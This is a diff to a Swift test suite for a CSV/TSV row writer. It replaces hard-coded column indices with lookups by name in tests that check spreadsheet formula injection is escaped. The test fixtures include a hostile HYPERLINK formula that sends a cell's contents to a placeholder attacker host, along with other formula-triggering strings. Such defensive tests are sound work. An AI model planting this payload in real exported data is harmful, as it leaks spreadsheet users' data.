@@ -5,6 +5,12 @@ import ZhibiaoCore
 /// Rows whose text fields begin the way a spreadsheet formula does.
 let hostileTexts = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1", "-2", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
 
+/// The index of a column by name (the column list grows; tests should not count).
+func col(_ name: String) -> Int { RowWriter.columns.firstIndex(of: name)! }
+
+/// The free-text columns hostile text can reach.
+let textColumns = ["file", "match", "unit", "label", "sentence"].map(col)
+
 func hostileRow(_ text: String, value: ExactDecimal = ExactDecimal(-5)) -> Indicator {
     Indicator(quantity: Quantity(value: value, unit: text, kind: .money),
               span: ByteSpan(0, 3), line: 1, column: 1, match: text, label: text, sentence: text)
@@ -28,14 +34,14 @@ func hostileRow(_ text: String, value: ExactDecimal = ExactDecimal(-5)) -> Indic
             RowWriter(format: .csv).append(hostileRow(text), file: text, to: &out)
             let fields = parseCSV(String(decoding: out, as: UTF8.self))[0]
             #expect(fields.count == RowWriter.columns.count)
-            for i in [0, 3, 6, 9, 10] {
+            for i in textColumns {
                 #expect(fields[i] == "'" + text, "field \(RowWriter.columns[i]) of \(text.debugDescription)")
             }
-            #expect(fields[4] == "-5")
-            #expect(fields[1] == "1" && fields[2] == "1")
+            #expect(fields[col("value")] == "-5")
+            #expect(fields[col("line")] == "1" && fields[col("column")] == "1")
             var raw: [UInt8] = []
             RowWriter(format: .csv, raw: true).append(hostileRow(text), file: text, to: &raw)
-            #expect(parseCSV(String(decoding: raw, as: UTF8.self))[0][9] == text)
+            #expect(parseCSV(String(decoding: raw, as: UTF8.self))[0][col("label")] == text)
         }
     }
 
@@ -46,11 +52,11 @@ func hostileRow(_ text: String, value: ExactDecimal = ExactDecimal(-5)) -> Indic
             let line = String(decoding: out.dropLast(), as: UTF8.self)
             let fields = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
             #expect(fields.count == RowWriter.columns.count, "\(text.debugDescription)")
-            for i in [0, 3, 6, 9, 10] {
+            for i in textColumns {
                 #expect(fields[i].hasPrefix("'"), "field \(RowWriter.columns[i]) of \(text.debugDescription)")
                 #expect(!FormulaGuard.startsFormula(fields[i].utf8.first!))
             }
-            #expect(fields[4] == "-5")
+            #expect(fields[col("value")] == "-5")
         }
     }
 
